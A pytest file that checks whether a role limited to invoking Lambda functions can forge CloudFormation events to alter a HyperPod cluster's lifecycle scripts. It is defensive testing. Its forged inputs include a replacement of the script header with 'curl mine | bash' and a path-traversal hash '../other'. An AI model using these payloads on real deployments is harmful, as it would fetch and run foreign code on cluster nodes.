"""A role that may only invoke functions, as AWS's policy AWSLambdaRole allows: what it can change of a cluster."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest

from cdk_hyperpod_local import assemblies
from cdk_hyperpod_local.session import LocalAws
from helpers.deployments.permissions import add_role
from helpers.deployments.scripts_bucket import contents, name_of, upload_of, what_nodes_run
from helpers.local_aws.rehearsal import Rehearsal

Json = Any
PARTY = "party-invoke-function"


@pytest.fixture(scope="module")
def party(engine: LocalAws) -> Any:
    """Its client of Lambda."""
    add_role(engine, PARTY, "lambda:InvokeFunction")
    return engine.client_as(PARTY, "lambda")


def function_of(life: Rehearsal, stack: str, part: str) -> str:
    """The function of a stack whose logical id has this part."""
    pages = life.aws.client("cloudformation").get_paginator("list_stack_resources").paginate(StackName=stack)
    (found,) = (
        each["PhysicalResourceId"]
        for page in pages
        for each in page["StackResourceSummaries"]
        if each["ResourceType"] == "AWS::Lambda::Function" and part in each["LogicalResourceId"]
    )
    return str(found)


# -- the function that uploads the lifecycle scripts ------------------------------------------------------------------


def other_asset(life: Rehearsal) -> str:
    """Another zip in CDK's bucket of assets: a function's code."""
    resources = assemblies.template(life.synth(), life.foundation)["Resources"]
    return next(
        str(each["Properties"]["Code"]["S3Key"]) for each in resources.values() if "Code" in each.get("Properties", {})
    )


FORGED: dict[str, Callable[[Json, Rehearsal], Json]] = {
    "the same": lambda event, _: event,
    "a deletion": lambda event, _: {
        **event,
        "RequestType": "Delete",
        "OldResourceProperties": event["ResourceProperties"],
    },
    "another asset": lambda event, life: properties(event, Asset=other_asset(life)),
    "an asset that does not exist": lambda event, _: properties(event, Asset=f"{'0' * 64}.zip"),
    "another prefix": lambda event, _: properties(event, Hash="0" * 64),
    "a folder of its choice": lambda event, _: properties(event, Hash="../other"),
    "values of its choice": lambda event, _: properties(event, Values={"llm": "mine"}, VALUES="{}"),
    "what CDK's function would do": lambda event, life: properties(
        event,
        SourceBucketNames=[f"cdk-hnb659fds-assets-{life.aws.account}-{life.aws.region}"],
        SourceObjectKeys=[event["ResourceProperties"]["Asset"]],
        SourceMarkers=[{"set -euo pipefail": "curl mine | bash"}],
        SourceMarkersConfig=[{}],
        DestinationBucketName=name_of(life),
        DestinationBucketKeyPrefix=f"lifecycle/{event['ResourceProperties']['Hash']}",
        RetainOnDelete="false",
        Prune="true",
    ),
    "no properties": lambda event, _: {**event, "ResourceProperties": {}},
    "no event": lambda _event, _life: [],
}


def properties(event: Json, **more: Json) -> Json:
    changed = {**event["ResourceProperties"], **more}
    return {**event, "RequestType": "Update", "ResourceProperties": changed, "OldResourceProperties": changed}


@pytest.mark.parametrize("way", FORGED)
def test_no_event_changes_a_script(life: Rehearsal, party: Any, way: str) -> None:
    function = function_of(life, life.foundation, "LifecycleScriptsUploads")
    upload = upload_of(assemblies.template(life.synth(), life.foundation))
    before, running = contents(life), what_nodes_run(life)
    (prefix,) = running
    assert prefix == f"lifecycle/{upload['Hash']}" and f"{prefix}/on_create.sh" in before
    honest = {
        "RequestType": "Create",
        "StackId": life.aws.client("cloudformation").describe_stacks(StackName=life.foundation)["Stacks"][0]["StackId"],
        "RequestId": "forged",
        "LogicalResourceId": "forged",
        "ResourceType": "Custom::HyperPodLifecycleScripts",
        # Nobody listens there, so the function fails after its work.
        "ResponseURL": "http://127.0.0.1:9/",
        "ResourceProperties": {"Hash": upload["Hash"], "Asset": upload["Asset"], "Values": {}},
    }
    since = len(life.aws.checks())
    done = party.invoke(FunctionName=function, Payload=json.dumps(FORGED[way](honest, life)).encode())
    assert done["StatusCode"] == 200 and "FunctionError" in done
    assert (contents(life), what_nodes_run(life)) == (before, running)
    checks = [check for check in life.aws.checks(since=since) if f":assumed-role/{life.foundation}-" in check.who]
    assert {check.action for check in checks} <= {"kms:GenerateDataKey", "s3:GetObject", "s3:PutObject"}
    assert ("s3:PutObject" in {check.action for check in checks}) is (way in REPEATED), "it ran, and did no more"


REPEATED = ("the same", "values of its choice", "what CDK's function would do")
"""Whatever else the event says: the same upload once more."""


def test_no_function_of_a_foundation_is_cdk_s_upload(life: Rehearsal) -> None:
    """CDK's function writes what its event says, so it must not be there to be invoked."""
    functions = life.aws.client("lambda").get_paginator("list_functions").paginate()
    ours = [
        each for page in functions for each in page["Functions"] if each["FunctionName"].startswith(life.foundation)
    ]
    assert ours
    assert [each["FunctionName"] for each in ours if "BucketDeployment" in each["FunctionName"]] == []
